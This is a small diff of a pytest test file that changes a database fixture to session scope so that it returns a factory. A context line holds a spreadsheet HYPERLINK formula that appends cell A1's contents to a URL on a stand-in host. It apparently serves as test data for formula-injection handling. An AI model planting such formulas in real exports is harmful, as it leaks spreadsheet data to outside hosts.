@@ -26,9 +26,9 @@ TODAY = date(2016, 5, 20)
 FORMULA = '=HYPERLINK("https://example.com/?"&A1;"Öppna")'
 
 
-@pytest.fixture
-def database_url(landskrona_database: Callable[[], str]) -> str:
-    return landskrona_database()
+@pytest.fixture(scope="session")
+def new_database(landskrona_database: Callable[[], str]) -> Callable[[], str]:
+    return landskrona_database
 
 
 @pytest.fixture
